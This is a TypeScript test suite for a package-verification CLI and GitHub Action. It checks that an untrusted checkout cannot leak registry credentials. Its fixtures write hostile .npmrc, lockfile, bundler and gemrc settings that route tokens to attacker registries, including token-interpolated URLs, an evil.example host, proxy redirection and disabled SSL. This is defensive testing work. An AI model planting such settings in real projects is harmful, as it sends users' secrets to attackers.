/** An unreviewed checkout cannot send a secret anywhere: all tricks together, through the packed command line and the Action's bundle. */

import { chmod } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { join } from 'node:path';
import {
  mintGemRelease,
  mintGemfileLock,
  mintPackage,
  mintPackageLock,
  runClient,
  startRegistry,
  temporaryFolder,
  writeFiles,
  type LoopbackRegistry,
} from '@assay/testkit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { installPackedCli } from '../packed-cli.js';

/** Part of every secret of the user, and of nothing else. */
const canary = 'canary7b20';
const secret = (place: string) => `${canary}${place}`;
const good = mintPackage({ name: 'left-pad', version: '1.3.0' });
const scoped = mintPackage({ name: '@acme/tool', version: '2.0.0' });
const gem = mintGemRelease({ name: 'rack', version: '3.1.0' });

let cli: Awaited<ReturnType<typeof installPackedCli>>;
beforeAll(async () => {
  cli = await installPackedCli();
});
afterAll(() => cli.remove());

interface Scene extends AsyncDisposable {
  readonly project: string;
  readonly env: Readonly<Record<string, string>>;
  readonly own: LoopbackRegistry;
  readonly attackers: readonly LoopbackRegistry[];
}

/** The user's registry with secrets in every place that clients read, and a checkout that wants them. */
async function startScene(
  files: (evil: LoopbackRegistry, own: LoopbackRegistry) => Readonly<Record<string, string>>,
): Promise<Scene> {
  const own = await startRegistry({ npm: [good, scoped], gems: [gem], basePath: '/team/' });
  // One listens under another name of the machine, one under the same host as the user's registry and another port.
  const attackers = [
    await startRegistry({ npm: [good, scoped], gems: [gem], host: 'localhost' }),
    await startRegistry({ npm: [good, scoped] }),
  ];
  const [evil] = attackers;
  if (evil === undefined) throw new Error('there is an attacker');
  const [project, home] = [await temporaryFolder(), await temporaryFolder()];
  const { host } = new URL(own.url);
  const basic = Buffer.from(`acme:${secret('basic')}`).toString('base64');
  await writeFiles(home.path, {
    '.npmrc': [
      `registry=${own.url}`,
      `//${host}/team/:_authToken=${secret('npmrc')}`,
      `//${host}/team/private/:_auth=${basic}`,
      '//env.example/:_authToken=${NPM_TOKEN}',
      '',
    ].join('\n'),
    '.netrc': `machine 127.0.0.1 login acme password ${secret('netrc')}\n`,
    '.bundle/config': `---\nBUNDLE_127__0__0__1: "acme:${secret('bundle')}"\n`,
    '.gem/credentials': `---\n:rubygems_api_key: ${secret('gem')}\n`,
    '.gemrc': `---\n:sources:\n- https://acme:${secret('gemrc')}@gems.example/\n`,
    '.config/composer/auth.json': JSON.stringify({ bearer: { '127.0.0.1': secret('composer') } }),
  });
  await chmod(join(home.path, '.netrc'), 0o600);
  await writeFiles(project.path, files(evil, own));
  const env = {
    HOME: home.path,
    NPM_TOKEN: secret('token'),
    NODE_AUTH_TOKEN: secret('node'),
    [`npm_config_//${host}/team/:_password`]: Buffer.from(secret('password')).toString('base64'),
    BUNDLE_GEMS__EXAMPLE: `acme:${secret('bundleenv')}`,
    GEM_HOST_API_KEY: secret('gemenv'),
    COMPOSER_AUTH: JSON.stringify({ bearer: { '127.0.0.1': secret('composerenv') } }),
    GITHUB_TOKEN: secret('github'),
    CI_JOB_TOKEN: secret('job'),
  };
  return {
    project: project.path,
    env,
    own,
    attackers,
    [Symbol.asyncDispose]: async () => {
      await Promise.all([own, ...attackers].map((server) => server.close()));
      await project.remove();
      await home.remove();
    },
  };
}

/** Everything that a checkout may say, to lead requests and secrets to the attacker. */
function tricks(evil: LoopbackRegistry, own: LoopbackRegistry): Readonly<Record<string, string>> {
  const { host, port } = new URL(evil.url);
  const { host: ownHost } = new URL(own.url);
  const resolved = (path: string) => `${evil.url}${path}`;
  const entry = (name: string, url: string) => ({
    kind: 'registry' as const,
    package: good,
    at: `node_modules/${name}`,
    resolved: url,
  });
  const npm = mintPackageLock({
    registry: own.url,
    entries: [
      { kind: 'registry', package: good },
      { kind: 'registry', package: scoped, resolved: resolved('@acme/tool/-/tool-2.0.0.tgz') },
      entry('a', resolved('left-pad/-/left-pad-1.3.0.tgz?token=${NPM_TOKEN}')),
      entry('b', `http://${ownHost}@${host}/left-pad/-/left-pad-1.3.0.tgz`),
      entry('c', `http://\${NPM_TOKEN}@${host}/left-pad/-/left-pad-1.3.0.tgz`),
      entry('d', `http://127.0.0.1:${port}/team/left-pad/-/left-pad-1.3.0.tgz`),
      entry('e', `http://127.0.0.1.localhost:${port}/left-pad/-/left-pad-1.3.0.tgz`),
      entry('f', `http://${ownHost}.evil.example/left-pad/-/left-pad-1.3.0.tgz`),
      entry('g', 'https://xn--nvd-yma.example/left-pad/-/left-pad-1.3.0.tgz'),
      entry('h', `http://2130706433:${port}/left-pad/-/left-pad-1.3.0.tgz`),
      entry('i', new URL('/elsewhere/left-pad/-/left-pad-1.3.0.tgz', own.url).href),
      { kind: 'url', package: good, at: 'node_modules/u', url: resolved('u.tgz') },
      { kind: 'git', package: good, at: 'node_modules/v', url: `git+http://${host}/g.git`, commit: 'a'.repeat(40) },
    ],
  });
  const gems = mintGemfileLock({
    sources: [{ kind: 'registry', remote: evil.url.replace('://', '://${BUNDLE_GEMS__EXAMPLE}@'), gems: [gem] }],
  });
  return {
    ...(npm.files as Record<string, string>),
    ...(gems.files as Record<string, string>),
    '.npmrc': [
      `registry=http://\${NPM_TOKEN}.${host}/`,
      `@acme:registry=${evil.url}\${NPM_TOKEN}/`,
      `//${host}/:_authToken=\${NPM_TOKEN}`,
      `//${host}/:_auth=\${NODE_AUTH_TOKEN}`,
      `//${ownHost}/:_authToken=mine`,
      `proxy=${evil.url}\${GITHUB_TOKEN}`,
      `https-proxy=${evil.url}`,
      `noproxy=`,
      'cafile=evil.pem',
      'strict-ssl=false',
      `userconfig=./evil.npmrc`,
      `globalconfig=./evil.npmrc`,
      `cache=./evil`,
      '',
    ].join('\n'),
    'evil.npmrc': `registry=${evil.url}\n//${host}/:_authToken=\${NPM_TOKEN}\n`,
    'pnpm-workspace.yaml': `packages: ['.']\nregistries:\n  default: ${evil.url}\n  '@acme': ${evil.url}\n`,
    '.bundle/config': `---\nBUNDLE_MIRROR__ALL: "${evil.url}"\nBUNDLE_MIRROR__HTTP://127__0__0__1/: "${evil.url}"\nBUNDLE_SSL_VERIFY_MODE: "0"\n`,
    '.netrc': `machine 127.0.0.1 login evil password evil\n`,
    '.gemrc': `---\n:sources:\n- ${evil.url}\n`,
    'auth.json': JSON.stringify({ bearer: { [host]: 'mine' } }),
    'assay.yaml': `version: 1\nregistries:\n  - { ecosystem: npm, url: '${evil.url}', insecure: true }\n`,
    'assay.lock': '{}',
  };
}

function expectNothingGot({ attackers, own }: Scene): void {
  expect(attackers.flatMap(({ requests }) => requests)).toEqual([]);
  // What the user's own registry gets is its own credential, and nothing of the others'.
  for (const { headers } of own.requests) {
    const { authorization, ...rest } = headers;
    expect(JSON.stringify(rest)).not.toContain(canary);
    expect([undefined, `Bearer ${secret('npmrc')}`]).toContain(authorization);
  }
}

describe('an unreviewed checkout', () => {
  test('sends no secret anywhere, with all tricks together', async () => {
    await using scene = await startScene(tricks);
    for (const args of [['verify'], ['verify', '--depth', 'registry'], ['sbom'], ['diff', 'HEAD', 'HEAD']]) {
      const { status, stdout, stderr } = await cli.run(args, { cwd: scene.project, env: scene.env });
      if (args[0] === 'verify') expect(status).not.toBe(0);
      expect(`${stdout}${stderr}`).not.toContain(canary);
    }
    expectNothingGot(scene);
  });

  test('gets none by redirects of the user’s own registry either', async () => {
    await using scene = await startScene((_evil, own) => {
      const entries = [{ kind: 'registry', package: good }] as const;
      return mintPackageLock({ registry: own.url, entries }).files as Record<string, string>;
    });
    const [evil] = scene.attackers;
    scene.own.setFault(() => true, { kind: 'redirect', to: new URL('left-pad/1.3.0', evil?.url).href, status: 307 });
    const { status } = await cli.run(['verify'], { cwd: scene.project, env: scene.env });
    expect(status).toBe(3);
    expect(scene.own.requests[0]?.headers['authorization']).toBe(`Bearer ${secret('npmrc')}`);
    expectNothingGot(scene);
  });

  test('gets none from the Action either', async () => {
    await using scene = await startScene(tricks);
    const bundle = fileURLToPath(new URL('../../../action/dist/index.cjs', import.meta.url));
    const env = { PATH: process.env['PATH'], ...scene.env, GITHUB_WORKSPACE: scene.project, GITHUB_EVENT_NAME: 'push' };
    const { status, stdout, stderr } = await runClient(process.execPath, [bundle], { cwd: scene.project, env });
    expect(status).not.toBe(0);
    expect(`${stdout}${stderr}`).not.toContain(canary);
    expectNothingGot(scene);
  });

  test('has an attacker that listens: where the user names him, he is asked, and gets nothing of other registries', async () => {
    await using scene = await startScene((evil) => {
      const entries = [{ kind: 'registry', package: good }] as const;
      return mintPackageLock({ registry: evil.url, entries }).files as Record<string, string>;
    });
    const env = { ...scene.env, npm_config_registry: scene.attackers[0]?.url ?? '' };
    await cli.run(['verify'], { cwd: scene.project, env });
    const got = scene.attackers.flatMap(({ requests }) => requests);
    expect(got.length).toBeGreaterThan(0);
    expect(JSON.stringify(got)).not.toContain(canary);
  });
});
